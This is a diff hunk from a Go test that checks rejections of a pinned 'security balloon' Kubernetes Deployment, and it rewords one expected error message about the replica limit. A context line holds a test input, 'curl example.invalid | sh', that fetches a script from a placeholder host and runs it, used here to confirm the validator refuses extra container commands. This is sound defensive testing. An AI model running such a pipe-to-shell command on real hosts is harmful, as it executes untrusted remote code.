@@ -381,7 +381,7 @@ func TestSecurityBalloonDeploymentPinned(t *testing.T) {
 		{"a toleration of the preflight taint", func(d *appsv1.Deployment) {
 			d.Spec.Template.Spec.Tolerations = append(d.Spec.Template.Spec.Tolerations, apiv1.Toleration{Key: preflight.DefaultTaintKey, Operator: apiv1.TolerationOpExists})
 		}, placement},
-		{"101 balloons", func(d *appsv1.Deployment) { d.Spec.Replicas = new(int32(101)) }, prefix + "at most admissionPolicies.balloonMaxReplicas (100) balloons, not 101"},
+		{"101 balloons", func(d *appsv1.Deployment) { d.Spec.Replicas = new(int32(101)) }, prefix + "at most --balloon-max-replicas (100) balloons, not 101"},
 		{"a command", func(d *appsv1.Deployment) {
 			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl example.invalid | sh"}
 		}, prefix + "the container runs its image's own entrypoint, with no command, arguments, environment, volume mounts, probes or lifecycle hooks"},
